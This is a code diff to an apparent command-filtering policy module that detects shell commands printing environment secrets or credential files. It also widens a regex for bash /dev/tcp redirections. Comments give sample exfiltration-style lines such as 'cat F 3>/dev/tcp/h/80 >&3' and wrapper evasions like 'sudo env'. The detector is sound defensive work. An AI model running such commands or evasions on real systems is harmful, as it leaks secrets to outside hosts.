@@ -16,6 +16,7 @@ from itertools import pairwise
 
 from sluice.policies._containers import container_exec
 from sluice.policies._leaks import leaked_secret, may_hold_secret
+from sluice.policies._prefixes import ASSIGNMENT, WRAPPERS, after_options
 from sluice.policies._runners import found_commands, ssh_command
 from sluice.policies._shell import Command, basename, parse, reserved, stated, with_next
 from sluice.policies._targets import is_credential, on_remote, resolve
@@ -496,9 +497,31 @@ def _without_excluded(args: list[str]) -> list[str]:
     return kept
 
 
+def _printer(words: tuple[str, ...]) -> tuple[str, ...]:
+    """``words`` from the program that prints: after the reserved words (``{ env``, ``then
+    printenv``, ``time set``), the programs that run another (``sudo env``, ``nohup
+    printenv``, ``env LC_ALL=C env``) and variables set for it (``LC_ALL=C env``); an
+    ``env`` that runs nothing (``env -u HOME``) is ``env``, which prints the environment."""
+    at = 0
+    while at < len(words):
+        name = basename(words[at])
+        if name == "command" and words[at + 1 : at + 2] in (("-v",), ("-V",)):
+            break  # command -v env: where env is
+        if name in WRAPPERS:
+            ran = after_options(words, at, name)
+            if name == "env" and ran >= len(words):
+                return ("env",)
+            at = ran
+        elif ASSIGNMENT.fullmatch(words[at]):
+            at += 1
+        else:
+            break
+    return words[at:]
+
+
 def _secret_read_by(command: Command) -> str | None:
     """The credential file (or ``the environment``) whose content ``command`` prints."""
-    given = stated(command.words)  # `{ env`, `then printenv`, `time set`
+    given = _printer(command.words)
     first = basename(given[0]) if given else ""
     rest = given[1:]
     if first in ("env", "printenv") and not any(
@@ -830,9 +853,10 @@ def _uploads_stdin(found: Sequence[str]) -> bool:
     return found[:1] in _STDIN_UPLOADS or any(f in STDIN for f in found[:-1])
 
 
-# bash's network files, opened on a descriptor (`exec 3<>/dev/tcp/h/80`) for a later `>&3`.
+# bash's network files, opened on a descriptor for a later `>&3`: by `exec 3<>/dev/tcp/h/80`
+# however `exec` is spelt (`"exec"`, `\exec`), or for one command (`cat F 3>/dev/tcp/h/80 >&3`).
 _OPENED_SOCKET = re.compile(
-    r"\bexec\s+([0-9]+|\{\w+\})\s*(?:<>|>>?|>\|)\s*(/dev/(?:tcp|udp)/[^\s;&|]+)"
+    r"(?<![^\s;&|(])([0-9]+|\{\w+\})\s*(?:<>|>>?|>\|)\s*(/dev/(?:tcp|udp)/[^\s;&|]+)"
 )
 
 
